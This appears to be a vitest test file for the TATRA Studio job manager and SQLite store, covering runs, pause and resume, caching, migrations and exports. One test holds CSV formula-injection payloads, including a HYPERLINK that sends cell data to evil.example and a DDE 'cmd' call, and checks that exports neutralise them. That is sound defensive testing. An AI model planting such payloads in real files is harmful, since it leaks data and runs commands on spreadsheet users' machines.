// JobManager + SQLite store on a real database file in a temp dir, with the real engine and a
// scripted backend (exact semantics: which generator calls happen, what resumes where).
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { parse as parseCsv } from 'csv-parse/sync';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { UserError } from '../../../electron/common/errors';
import type { TatraSettings } from '../../../electron/common/tatra';
import type { JobProgress } from '../../../electron/common/contract/jobs';
import type { GenerateRequest } from '../../../electron/engine/backend';
import {
  JobManager,
  SCHEMA_VERSION,
  openJobStore,
  plainModelRef,
  readCsvExport,
  readJsonExport,
  type BackendProvider,
  type JobEvent,
  type JobRow,
  type JobStore,
} from '../../../electron/jobs';
import { ScriptedBackend, politeScript, requestStage } from '../../helpers/scripted-backend';
import { UNDO_V12 } from '../../helpers/stored-job';

const dir = mkdtempSync(join(tmpdir(), 'tatra-jobs-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let n = 0;
const stores: JobStore[] = [];
afterEach(() => {
  for (const s of stores.splice(0)) s.close();
});

const answer = (c: string) => (/good|great|fine/.test(c) ? 'positive' : 'negative');

function setup(opts: { delayMs?: number; contextSize?: number; failOn?: string; dataDir?: string; deterministic?: (path: string) => boolean; hold?: (req: GenerateRequest) => Promise<void> | null } = {}) {
  const dataDir = opts.dataDir ?? join(dir, `d${n++}`);
  const store = openJobStore(dataDir);
  stores.push(store);
  const backends = new Map<string, ScriptedBackend>();
  const make = (path: string) =>
    new ScriptedBackend(
      async (req, ctx) => {
        await opts.hold?.(req);
        if (opts.failOn && requestStage(req) === 'evaluation' && req.prompt.user.includes(opts.failOn)) throw new Error('the backend broke');
        return politeScript({ answer })(req, ctx);
      },
      { id: `scripted:${path}`, delayMs: opts.delayMs ?? 0, contextSize: opts.contextSize ?? 8192, deterministic: opts.deterministic?.(path) ?? true },
    );
  let released = 0;
  const acquired: { path: string; sequences: number | undefined }[] = [];
  const provider: BackendProvider = {
    acquire: async ({ text: path }, o) => {
      acquired.push({ path, sequences: o?.sequences });
      if (!backends.has(path)) backends.set(path, make(path));
      return { backend: backends.get(path)!, release: async () => void released++ };
    },
  };
  const manager = new JobManager({ store, backends: provider, inspectModel: plainModelRef });
  return { dataDir, store, manager, backends, released: () => released, acquired };
}

function csv(name: string, rows: Array<[string, string]>): string {
  const p = join(dir, name);
  writeFileSync(p, 'text,label\n' + rows.map(([t, l]) => `"${t}",${l}`).join('\n') + '\n');
  return p;
}

const twelve = csv(
  'twelve.csv',
  Array.from({ length: 12 }, (_, i): [string, string] => [i % 3 === 0 ? `a good film ${i}` : `a dull film ${i}`, i % 2 === 0 ? '1' : '0']),
);
const settings: TatraSettings = { n: 2, k: 4, r: 2, seed: 7, scope: 'run' };
const spec = (extra = {}) => ({
  task: 'sst2',
  settings,
  generatorPath: 'gen.gguf',
  evaluatorPath: 'eval.gguf',
  dataset: { path: twelve, mapping: { textColumn: 'text', labelColumn: 'label' } },
  concurrency: 3,
  ...extra,
});

/** What must be identical between an interrupted-and-resumed job and an uninterrupted one. */
const essence = (r: JobRow) => ({ index: r.index, input: r.input, gold: r.gold, prediction: r.prediction, votes: r.votes, confidence: r.confidence, runs: r.runs, correct: r.correct });

describe('store', () => {
  it('creates a versioned WAL database in the data folder and keeps jobs across reopen', async () => {
    const { dataDir, manager, store } = setup();
    expect(store.schemaVersion).toBe(SCHEMA_VERSION);
    expect(store.db.pragma('journal_mode', { simple: true })).toBe('wal');
    const job = await manager.create(spec());
    store.close();
    const db = new Database(join(dataDir, 'tatra.db'), { readonly: true });
    expect(db.pragma('user_version', { simple: true })).toBe(SCHEMA_VERSION);
    expect((db.prepare('SELECT COUNT(*) AS n FROM job_rows WHERE job_id = ?').get(job.id) as { n: number }).n).toBe(12);
    db.close();
    const again = openJobStore(dataDir);
    stores.push(again);
    expect(again.getJob(job.id)?.rowsTotal).toBe(12);
  });

  it('generator outputs are read back at once and written together: another process sees them within moments, and all of them after close', async () => {
    const { dataDir, store } = setup();
    const other = new Database(join(dataDir, 'tatra.db'), { readonly: true });
    const count = () => (other.prepare('SELECT COUNT(*) AS n FROM generation_cache').get() as { n: number }).n;
    for (let i = 0; i < 5; i++) store.cacheSet(`k${i}`, `v${i}`);
    expect(store.cacheGet('k3')).toBe('v3');
    await expect.poll(count, { timeout: 10_000 }).toBe(5);
    for (let i = 5; i < 8; i++) store.cacheSet(`k${i}`, `v${i}`);
    store.close();
    expect(count()).toBe(8);
    other.close();
  });
});

describe('JobManager', () => {
  it('runs a job: examples once per run shared by all rows, rows committed with votes, progress and metrics', async () => {
    const { manager, backends, released, acquired } = setup();
    const events: JobEvent[] = [];
    manager.onAny((e) => events.push(e));
    const job = await manager.create(spec());
    expect(job.status).toBe('queued');
    // 0/1 gold mapped by numeric index to negative/positive (suggested automatically).
    expect(job.dataset.mapping.labelMap).toEqual({ '0': 'negative', '1': 'positive' });
    expect(job.generator).toEqual({ path: 'gen.gguf', sizeBytes: 0, headerHash: '' });
    await manager.start(job.id);
    const done = await manager.wait(job.id);
    expect(done.status).toBe('done');
    expect(done.rowsDone).toBe(12);
    expect(done.interrupted).toBe(false);
    expect(released()).toBe(2);
    // Whichever face runs it, a job's models load with one sequence per row in flight.
    expect(acquired).toEqual([
      { path: 'gen.gguf', sequences: 3 },
      { path: 'eval.gguf', sequences: 3 },
    ]);

    const gen = backends.get('gen.gguf')!;
    // Scope run: one example call per label per run, for the whole data set.
    expect(gen.stage('examples')).toHaveLength(2 * 2);
    expect(gen.stage('paraphrases')).toHaveLength(12 * 2);
    expect(backends.get('eval.gguf')!.stage('evaluation')).toHaveLength(12 * 2 * 3);
    expect(manager.runExamples(job.id).map((e) => [e.run, e.seed, e.examples.length])).toEqual([
      [0, 7, 4],
      [1, 10007, 4],
    ]);

    const rows = manager.rows(job.id, { limit: 100 }).rows;
    expect(rows).toHaveLength(12);
    for (const r of rows) {
      expect(r.status).toBe('done');
      expect(r.prediction).toBe(answer(r.input));
      expect(r.votes![r.prediction!]).toBe(6);
      expect(r.runs).toHaveLength(2);
      expect(r.runs![0]!.paraphrases).toEqual([`Paraphrase 1 of ${r.input}`, `Paraphrase 2 of ${r.input}`]);
    }
    // Gold: even rows positive; prediction positive only for i % 3 == 0. Right: i in {0, 6} (positive)
    // and odd i not divisible by 3 (1, 5, 7, 11) -> 6 of 12.
    const m = manager.metrics(job.id);
    expect(m.accuracy).toBe(0.5);
    expect(m.accuracyAfterRuns).toEqual([0.5, 0.5]);
    expect(m.confusion).toEqual([
      [4, 2, 0],
      [4, 2, 0],
    ]);
    const wrong = manager.rows(job.id, { onlyWrong: true, limit: 100 });
    expect(wrong.total).toBe(6);
    expect(wrong.rows.every((r) => r.correct === false)).toBe(true);

    const progress = events.filter((e): e is Extract<JobEvent, { type: 'progress' }> => e.type === 'progress');
    expect(progress.at(-1)!.progress).toMatchObject({ phase: 'rows', rowsDone: 12, rowsTotal: 12, runningAccuracy: 0.5, etaSeconds: 0 });
    const phases = progress.map((e) => e.progress.phase).filter((p, i, all) => p !== all[i - 1]);
    expect(phases).toEqual(['loading', 'examples', 'rows']);
    expect(progress.find((e) => e.progress.phase === 'rows')!.progress.rowsDone).toBe(0);
    // Progress in model calls: 2 labels × 2 runs of shared examples, then per row 2 runs × (1
    // paraphrase call + 3 evaluations); never back, and exactly the plan at the end.
    const calls = progress.map((e) => e.progress.callsDone);
    expect(progress.every((e) => e.progress.callsTotal === 4 + 12 * 8)).toBe(true);
    expect(calls.every((c, i) => i === 0 || c >= calls[i - 1]!)).toBe(true);
    expect(progress.find((e) => e.progress.phase === 'rows')!.progress.callsDone).toBe(4);
    expect(calls.at(-1)).toBe(100);
    expect(progress.at(-1)!.progress.rowsPerMinute).toBeGreaterThan(0);
    expect(events.filter((e) => e.type === 'row')).toHaveLength(12);
    // Each row event is the row as stored: made from what was saved, not read back after the write.
    for (const e of events) if (e.type === 'row') expect(JSON.parse(JSON.stringify(e.row))).toEqual(manager.row(job.id, e.row.index));
    expect(events.filter((e) => e.type === 'status').map((e) => (e as { status: string }).status)).toEqual(['queued', 'running', 'done']);
  });

  it('says its progress while rows are in flight and no call ends (the time left moves on between calls)', async () => {
    let holding = false;
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    // Once a row is done, every paraphrase call waits: the rows in flight end their other calls, then nothing ends.
    const { manager } = setup({ hold: (req) => (holding && requestStage(req) === 'paraphrases' ? held : null) });
    const job = await manager.create(spec());
    const firstRow = new Promise<void>((resolve) => manager.on('row', () => resolve()));
    let last: JobProgress | null = null;
    const tick = new Promise<JobProgress>((resolve) =>
      manager.on('progress', (e) => {
        if (e.type !== 'progress' || e.progress.phase !== 'rows') return;
        // Nothing counted since the last one: neither a call (calls done) nor a row (rows done).
        if (holding && last && e.progress.callsDone === last.callsDone && e.progress.rowsDone === last.rowsDone) resolve(e.progress);
        last = e.progress;
      }),
    );
    await manager.start(job.id);
    await firstRow;
    holding = true;
    const between = await tick;
    expect(between.rowsDone).toBeLessThan(12);
    release();
    expect((await manager.wait(job.id)).status).toBe('done');
  });

  it('pause aborts rows in flight, loses nothing committed, and a resume ends with the rows of an uninterrupted job', async () => {
    const ref = setup({ delayMs: 5 });
    const refJob = await ref.manager.create(spec());
    await ref.manager.start(refJob.id);
    await ref.manager.wait(refJob.id);
    const expected = ref.manager.rows(refJob.id, { limit: 100 }).rows.map(essence);

    const { manager, backends, store } = setup({ delayMs: 5 });
    const job = await manager.create(spec());
    let seen = 0;
    const paused = new Promise<void>((resolve) => {
      manager.on('row', () => {
        if (++seen === 4) resolve();
      });
    });
    await manager.start(job.id);
    await paused;
    const p = await manager.pause(job.id);
    expect(p.status).toBe('paused');
    expect(p.rowsDone).toBeGreaterThanOrEqual(4);
    expect(p.rowsDone).toBeLessThan(12);
    const before = manager.rows(job.id, { limit: 100 }).rows.filter((r) => r.status === 'done').map(essence);
    // The resumed session's ETA weighs the rows by their inputs' lengths, those done included.
    const inputs = manager.rows(job.id, { limit: 100 }).rows;
    expect(store.inputSizes(job.id)).toEqual({
      all: inputs.reduce((sum, r) => sum + r.input.length, 0),
      done: inputs.filter((r) => r.status === 'done').reduce((sum, r) => sum + r.input.length, 0),
    });
    const exampleCalls = backends.get('gen.gguf')!.stage('examples').length;

    await manager.resume(job.id);
    const end = await manager.wait(job.id);
    expect(end.status).toBe('done');
    const after = manager.rows(job.id, { limit: 100 }).rows.map(essence);
    expect(after).toEqual(expected);
    // Rows committed before the pause were not redone, and run examples were not regenerated.
    for (const b of before) expect(after[b.index]).toEqual(b);
    expect(backends.get('gen.gguf')!.stage('examples').length).toBe(exampleCalls);
  });

  it("says a job is deterministic while every session's models are: nothing before a session, false for good once one was not", async () => {
    const first = setup({ delayMs: 5 });
    const job = await first.manager.create(spec());
    expect(job.deterministic).toBeNull();
    const progress: JobEvent[] = [];
    first.manager.on('progress', (e) => progress.push(e));
    const two = new Promise<void>((resolve) => {
      let seen = 0;
      first.manager.on('row', () => {
        if (++seen === 2) resolve();
      });
    });
    await first.manager.start(job.id);
    await two;
    expect((await first.manager.pause(job.id)).deterministic).toBe(true);
    // Progress says so from the rows on (a view learns it without asking again); loading does not know yet.
    const phases = progress.map((e) => (e.type === 'progress' ? [e.progress.phase, e.progress.deterministic] : null));
    expect(phases[0]).toEqual(['loading', null]);
    expect(phases.filter((p) => p?.[0] === 'rows').every((p) => p![1] === true)).toBe(true);
    // Resumed with an evaluator that promises nothing (a remote server, a GPU build).
    const second = setup({ delayMs: 5, dataDir: first.dataDir, deterministic: (path) => path !== 'eval.gguf' });
    await second.manager.resume(job.id);
    expect(await second.manager.wait(job.id)).toMatchObject({ status: 'done', deterministic: false });
    // A later session on deterministic models does not make the earlier rows reproducible.
    second.store.recordDeterministic(job.id, true);
    expect(second.manager.get(job.id).deterministic).toBe(false);
  });

  it('cancel keeps committed rows; a cancelled job can still be resumed explicitly; delete removes it', async () => {
    const { manager } = setup({ delayMs: 5 });
    const job = await manager.create(spec());
    const two = new Promise<void>((resolve) => {
      let seen = 0;
      manager.on('row', () => {
        if (++seen === 2) resolve();
      });
    });
    await manager.start(job.id);
    await two;
    const c = await manager.cancel(job.id);
    expect(c.status).toBe('cancelled');
    expect(c.rowsDone).toBeGreaterThanOrEqual(2);
    expect(manager.rows(job.id, { limit: 100 }).rows.filter((r) => r.status === 'done')).toHaveLength(c.rowsDone);
    await manager.resume(job.id);
    expect((await manager.wait(job.id)).status).toBe('done');
    await expect(manager.start(job.id)).rejects.toThrow(/already done/);
    await manager.delete(job.id);
    expect(manager.list()).toEqual([]);
  });

  it('a re-run with another evaluator reuses the cached generator outputs (no generator calls)', async () => {
    const first = setup();
    const j1 = await first.manager.create(spec());
    await first.manager.start(j1.id);
    await first.manager.wait(j1.id);
    first.store.close();
    // Same data folder, new process state: the cache lives in SQLite.
    const second = setup({ dataDir: first.dataDir });
    const j2 = await second.manager.create(spec({ evaluatorPath: 'other-eval.gguf' }));
    await second.manager.start(j2.id);
    expect((await second.manager.wait(j2.id)).status).toBe('done');
    expect(second.backends.get('gen.gguf')!.requests).toHaveLength(0);
    expect(second.backends.get('other-eval.gguf')!.stage('evaluation')).toHaveLength(12 * 2 * 3);
    const r1 = second.manager.rows(j1.id, { limit: 100 });
    expect(second.manager.rows(j2.id, { limit: 100 }).rows.map((r) => r.runs!.map((x) => x.paraphrases))).toEqual(
      second.manager.rows(j1.id, { limit: 100 }).rows.map((r) => r.runs!.map((x) => x.paraphrases)),
    );
    expect(r1.total).toBe(12);
    const ex = (id: string) => second.manager.runExamples(id).map((e) => ({ run: e.run, seed: e.seed, examples: e.examples }));
    expect(ex(j2.id)).toEqual(ex(j1.id));
  });

  it('scope input: examples per row, stored with the row; baseline stored beside TATRA', async () => {
    const { manager, backends } = setup();
    const job = await manager.create(spec({ settings: { ...settings, scope: 'input', r: 1 }, baseline: true, limit: 3 }));
    expect(job.rowsTotal).toBe(3);
    await manager.start(job.id);
    await manager.wait(job.id);
    expect(backends.get('gen.gguf')!.stage('examples')).toHaveLength(3 * 2);
    const rows = manager.rows(job.id).rows;
    expect(rows[0]!.runs![0]!.examples).toHaveLength(4);
    for (const r of rows) expect(r.baseline).toEqual({ label: answer(r.input), raw: answer(r.input), correct: r.correct });
    expect(manager.metrics(job.id).baseline).toMatchObject({ evaluated: 3, accuracy: manager.metrics(job.id).accuracy });
    expect(manager.runExamples(job.id)).toEqual([]);
  });

  it('a job whose process died shows as interrupted and can be resumed', async () => {
    const { manager, store } = setup();
    const job = await manager.create(spec({ limit: 2 }));
    store.setStatus(job.id, 'running');
    store.db.prepare('UPDATE jobs SET owner = ? WHERE id = ?').run(`${(await import('node:os')).hostname()}:999999999`, job.id);
    expect(manager.get(job.id)).toMatchObject({ status: 'running', interrupted: true });
    // A live owner (this very test process, seen from another manager) is not interrupted.
    store.db.prepare('UPDATE jobs SET owner = ? WHERE id = ?').run(`${(await import('node:os')).hostname()}:${process.ppid}`, job.id);
    expect(manager.get(job.id).interrupted).toBe(false);
    await expect(manager.resume(job.id)).rejects.toThrow(/running in another process/);
    store.db.prepare('UPDATE jobs SET owner = ? WHERE id = ?').run(`${(await import('node:os')).hostname()}:999999999`, job.id);
    await manager.resume(job.id);
    expect((await manager.wait(job.id)).status).toBe('done');
  });

  it('a row that cannot be classified is recorded as failed; a broken backend fails the job with its message', async () => {
    const long = csv('long.csv', [
      ['fine film', '1'],
      ['x'.repeat(6000), '0'],
      ['dull film', '0'],
    ]);
    const a = setup({ contextSize: 1024 });
    const rows: JobRow[] = [];
    a.manager.on('row', (e) => rows.push(JSON.parse(JSON.stringify(e.row)) as JobRow));
    const j = await a.manager.create(spec({ dataset: { path: long, mapping: { textColumn: 'text', labelColumn: 'label' } } }));
    await a.manager.start(j.id);
    const end = await a.manager.wait(j.id);
    expect(end).toMatchObject({ status: 'done', rowsDone: 2, rowsFailed: 1 });
    expect(a.manager.row(j.id, 1)!.error).toMatch(/tokens/);
    expect(rows.find((r) => r.index === 1)).toEqual(a.manager.row(j.id, 1));

    const b = setup({ failOn: 'dull film 4' });
    const jb = await b.manager.create(spec());
    await b.manager.start(jb.id);
    const endB = await b.manager.wait(jb.id);
    expect(endB.status).toBe('failed');
    expect(endB.error).toBe('the backend broke');
    expect(endB.rowsDone).toBeLessThan(12);
  });

  it('bad input: one clear UserError and no job left behind', async () => {
    const { manager } = setup();
    await expect(manager.create(spec({ task: 'nope' }))).rejects.toThrow(/unknown task "nope"/);
    await expect(manager.create(spec({ settings: { ...settings, n: -1 } }))).rejects.toThrow(/invalid settings: n:/);
    await expect(
      manager.create(spec({ dataset: { path: twelve, mapping: { textColumn: 'text', labelColumn: 'label', labelMap: { '1': 'good' } } } })),
    ).rejects.toThrow('label map "1=good": "good" is not a label of task sst2 (negative, positive)');
    const empty = join(dir, 'blank-inputs.csv');
    writeFileSync(empty, 'text,label\n" ",1\n');
    const e = await manager.create(spec({ dataset: { path: empty, mapping: { textColumn: 'text' } } })).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(UserError);
    expect((e as Error).message).toMatch(/has no rows with a non-empty "text"/);
    expect(manager.list()).toEqual([]);
    expect(() => manager.get('zzz')).toThrow('no job "zzz"');
  });

  it('rows at once: at most 64 on a local model (its parallel sequences), far more when both models are remote', async () => {
    const { manager, store, backends } = setup();
    await expect(manager.create(spec({ concurrency: 65 }))).rejects.toThrow('concurrency must be between 1 and 64 with a local model (its parallel sequences), got 65');
    const remote = 'openai+http://gpu1:8000/v1#m';
    const ref = { urls: ['http://gpu1:8000/v1'], model: 'm', kind: 'vllm' as const, version: '0.12.0', constrained: 'structured-outputs' as const };
    const provider: BackendProvider = {
      acquire: async ({ text: path }) => {
        if (!backends.has(path)) backends.set(path, new ScriptedBackend(politeScript({ answer }), { id: `scripted:${path}` }));
        return { backend: backends.get(path)!, release: async () => undefined };
      },
      describeRemote: async () => ref,
    };
    const remoteManager = new JobManager({ store, backends: provider });
    await expect(remoteManager.create(spec({ generatorPath: remote, evaluatorPath: 'eval.gguf', concurrency: 65 }))).rejects.toThrow(/between 1 and 64 with a local model/);
    await expect(remoteManager.create(spec({ generatorPath: remote, evaluatorPath: remote, concurrency: 4097 }))).rejects.toThrow('concurrency must be between 1 and 4096, got 4097');
    // Nobody says: enough rows to fill a server's batch.
    expect((await remoteManager.create(spec({ generatorPath: remote, evaluatorPath: remote, concurrency: undefined }))).concurrency).toBe(64);
    expect((await manager.create(spec({ concurrency: undefined }))).concurrency).toBe(4);
    const job = await remoteManager.create(spec({ generatorPath: remote, evaluatorPath: remote, concurrency: 500 }));
    expect(job.concurrency).toBe(500);
    await remoteManager.start(job.id);
    expect(await remoteManager.wait(job.id)).toMatchObject({ status: 'done', rowsDone: 12 });
  });

  it('exports round-trip: CSV one row per input, JSON with everything', async () => {
    const { manager } = setup();
    const job = await manager.create(spec({ baseline: true }));
    await manager.start(job.id);
    await manager.wait(job.id);
    const csvPath = join(dir, `export-${job.id}.csv`);
    const jsonPath = join(dir, `export-${job.id}.json`);
    await manager.export(job.id, 'csv', csvPath);
    await manager.export(job.id, 'json', jsonPath);
    expect(existsSync(`${csvPath}.partial`)).toBe(false);
    const rows = manager.rows(job.id, { limit: 100 }).rows;
    const back = await readCsvExport(csvPath);
    expect(back).toHaveLength(12);
    back.forEach((b, i) => {
      const r = rows[i]!;
      expect(b).toEqual({
        index: r.index,
        line: r.line,
        input: r.input,
        gold: r.gold,
        goldRaw: r.goldRaw,
        prediction: r.prediction,
        correct: r.correct,
        confidence: r.confidence,
        votes: r.votes,
        baselinePrediction: r.baseline!.label,
        baselineCorrect: r.baseline!.correct,
        status: 'done',
        error: null,
      });
    });
    const accFromCsv = back.filter((b) => b.correct).length / back.length;
    const json = await readJsonExport(jsonPath);
    expect(json.rows).toEqual(rows);
    expect(json.metrics).toEqual(manager.metrics(job.id));
    expect(json.metrics.accuracy).toBe(accFromCsv);
    expect(json.runExamples).toEqual(manager.runExamples(job.id));
    expect(json.job.id).toBe(job.id);
    await expect(manager.export(job.id, 'xml' as 'csv', csvPath)).rejects.toThrow(/unknown export format/);
  });
});

describe('gold labels that map to no label', () => {
  it('abbreviated gold values are mapped by prefix; a gold column that maps to nothing is refused before anything is stored', async () => {
    const { manager } = setup();
    const abbreviated = csv('abbreviated.csv', [['a good film', 'pos'], ['a dull film', 'neg']]);
    const job = await manager.create(spec({ dataset: { path: abbreviated, mapping: { textColumn: 'text', labelColumn: 'label' } } }));
    expect(job.dataset.mapping.labelMap).toEqual({ pos: 'positive', neg: 'negative' });
    const foreign = csv('foreign.csv', [['a good film', 'thumbs up'], ['a dull film', 'thumbs down']]);
    const e = await manager.create(spec({ dataset: { path: foreign, mapping: { textColumn: 'text', labelColumn: 'label' } } })).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(UserError);
    expect((e as UserError).code).toBe('label_unmapped');
    expect((e as Error).message).toBe(
      'no value of the gold column "label" maps to a label of task sst2 (values thumbs down, thumbs up; labels negative, positive): give a label map (--label-map value=label,…) or run without gold labels (--no-label)',
    );
    expect(manager.list().map((j) => j.id)).toEqual([job.id]);
    // Without a gold column the same file runs (unscored), as asked.
    await expect(manager.create(spec({ dataset: { path: foreign, mapping: { textColumn: 'text', labelColumn: null } } }))).resolves.toMatchObject({ rowsTotal: 2 });
  });
});

describe('CSV export against a malicious data set', () => {
  it('no exported cell starts a spreadsheet formula, and reading the export back restores the cells', async () => {
    const { manager } = setup();
    const evil = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      '+1+cmd|\' /C calc\'!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      'a good, plain film',
    ];
    const path = join(dir, 'evil.csv');
    writeFileSync(path, 'text,label\n' + evil.map((t, i) => `"${t.replace(/"/g, '""')}",${i % 2 === 0 ? '=1' : '-0'}`).join('\n') + '\n');
    const job = await manager.create(spec({ dataset: { path, mapping: { textColumn: 'text', labelColumn: 'label', labelMap: { '=1': 'positive', '-0': 'negative' } } } }));
    await manager.start(job.id);
    await manager.wait(job.id);
    const out = join(dir, `evil-${job.id}.csv`);
    await manager.export(job.id, 'csv', out);
    // The file as a spreadsheet sees it: every cell, unquoted.
    const cells = (parseCsv(readFileSync(out, 'utf8'), { relax_column_count: false }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${evil[0]}`);
    const back = await readCsvExport(out);
    expect(back.map((b) => b.input)).toEqual(evil);
    expect(back.map((b) => b.goldRaw)).toEqual(evil.map((_, i) => (i % 2 === 0 ? '=1' : '-0')));
  });
});

describe('store migrations and crash during import', () => {
  it('v6 moves sweeps and comparisons into the one experiments table, their jobs kept and a comparison left running paused', async () => {
    const { dataDir, manager, store } = setup();
    const job = await manager.create(spec({ limit: 2 }));
    // Back to v5: the sweep and comparison tables as v3 and v4 made them, holding one of each.
    store.db.exec(`
      DROP TABLE experiment_jobs; DROP TABLE experiments;
      CREATE TABLE sweeps (id TEXT PRIMARY KEY, name TEXT NOT NULL, created TEXT NOT NULL, updated TEXT NOT NULL, status TEXT NOT NULL,
        spec_json TEXT NOT NULL, error TEXT, owner TEXT, generator_calls INTEGER NOT NULL DEFAULT 0, evaluator_calls INTEGER NOT NULL DEFAULT 0, tokens INTEGER NOT NULL DEFAULT 0);
      CREATE TABLE sweep_jobs (sweep_id TEXT NOT NULL REFERENCES sweeps(id) ON DELETE CASCADE, n INTEGER NOT NULL, k INTEGER NOT NULL, seed INTEGER NOT NULL,
        job_id TEXT NOT NULL REFERENCES jobs(id) ON DELETE CASCADE, PRIMARY KEY (sweep_id, n, k, seed)) WITHOUT ROWID;
      CREATE TABLE model_comparisons (id TEXT PRIMARY KEY, created INTEGER NOT NULL, status TEXT NOT NULL, record_json TEXT NOT NULL);
    `);
    store.db.prepare(`INSERT INTO sweeps (id, name, created, updated, status, spec_json, tokens) VALUES ('s1', 'a sweep', '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:01.000Z', 'paused', '{"grid":{}}', 42)`).run();
    store.db.prepare(`INSERT INTO sweep_jobs VALUES ('s1', 2, 4, 7, ?)`).run(job.id);
    const record = {
      id: 'c1',
      createdAt: Date.parse('2026-01-02T00:00:00.000Z'),
      finishedAt: null,
      status: 'running',
      spec: { task: 'sst2', dataset: twelve, generators: ['/g.gguf'], evaluators: ['/e.gguf', '/f.gguf'], settings },
      pairs: [
        { generator: '/g.gguf', evaluator: '/e.gguf', jobId: job.id, status: 'running' },
        { generator: '/g.gguf', evaluator: '/f.gguf', jobId: 'deleted-job', status: 'pending' },
      ],
      error: null,
      warnings: ['tight'],
    };
    store.db.prepare(`INSERT INTO model_comparisons VALUES ('c1', ?, 'running', ?)`).run(record.createdAt, JSON.stringify(record));
    // v7's columns go too: the migration adds them again.
    store.db.exec(`ALTER TABLE jobs DROP COLUMN usage_json; ALTER TABLE jobs DROP COLUMN budget_json; ALTER TABLE jobs DROP COLUMN stopped_by; ${UNDO_V12}`);
    store.db.pragma('user_version = 5');
    store.close();

    const migrated = openJobStore(dataDir);
    stores.push(migrated);
    expect(migrated.schemaVersion).toBe(SCHEMA_VERSION);
    const tables = (migrated.db.prepare(`SELECT name FROM sqlite_master WHERE type = 'table'`).all() as { name: string }[]).map((t) => t.name);
    expect(tables).not.toContain('sweeps');
    expect(tables).not.toContain('model_comparisons');
    expect(migrated.db.prepare(`SELECT id, kind, name, created, status, spec_json, tokens FROM experiments ORDER BY id`).all()).toEqual([
      // v12: the comparison's spec in the jobs' words.
      { id: 'c1', kind: 'compare', name: 'comparison on sst2', created: '2026-01-02T00:00:00.000Z', status: 'paused', spec_json: JSON.stringify({ spec: { taskId: 'sst2', dataPath: twelve, generators: ['/g.gguf'], evaluators: ['/e.gguf', '/f.gguf'], settings }, warnings: ['tight'] }), tokens: 0 },
      { id: 's1', kind: 'sweep', name: 'a sweep', created: '2026-01-01T00:00:00.000Z', status: 'paused', spec_json: '{"grid":{}}', tokens: 42 },
    ]);
    // Cells as the runner keys them; the pair whose job is gone has none (it runs again on resume).
    expect(migrated.db.prepare(`SELECT experiment_id, cell, job_id FROM experiment_jobs ORDER BY experiment_id`).all()).toEqual([
      { experiment_id: 'c1', cell: JSON.stringify(['/g.gguf', '/e.gguf']), job_id: job.id },
      { experiment_id: 's1', cell: JSON.stringify([2, 4, 7]), job_id: job.id },
    ]);
  });

  it('migrates a v1 database (jobs kept, counted as imported) and refuses a job whose import never finished', async () => {
    const { dataDir, manager, store } = setup();
    const job = await manager.create(spec({ limit: 2 }));
    // Pretend the file is v1: drop the v2 column, the later tables and the version.
    store.db.exec(
      `ALTER TABLE jobs DROP COLUMN imported; ALTER TABLE jobs DROP COLUMN deterministic; ALTER TABLE jobs DROP COLUMN usage_json; ALTER TABLE jobs DROP COLUMN budget_json; ALTER TABLE jobs DROP COLUMN stopped_by; DROP TABLE experiment_jobs; DROP TABLE experiments; ${UNDO_V12}`,
    );
    store.db.pragma('user_version = 1');
    store.close();
    const migrated = openJobStore(dataDir);
    stores.push(migrated);
    expect(migrated.schemaVersion).toBe(SCHEMA_VERSION);
    expect(migrated.isImported(job.id)).toBe(true);
    // v5: a job from before says nothing about its sessions' determinism.
    expect(migrated.getJob(job.id)?.deterministic).toBeNull();
    // A job whose process died mid-import: shown as failed with the reason, and not startable.
    migrated.db.prepare('UPDATE jobs SET imported = 0 WHERE id = ?').run(job.id);
    const m2 = new JobManager({ store: migrated, backends: { acquire: () => Promise.reject(new Error('unused')) }, inspectModel: plainModelRef });
    expect(m2.get(job.id)).toMatchObject({ status: 'failed', error: 'the import of the data set did not finish; create the job again' });
    await expect(m2.start(job.id)).rejects.toThrow(/did not finish/);
  });

  it('refuses a database written by a newer version', () => {
    const dataDir = join(dir, 'newer');
    const s = openJobStore(dataDir);
    s.db.pragma(`user_version = ${SCHEMA_VERSION + 1}`);
    s.close();
    expect(() => openJobStore(dataDir)).toThrow(/newer TATRA Studio/);
  });
});
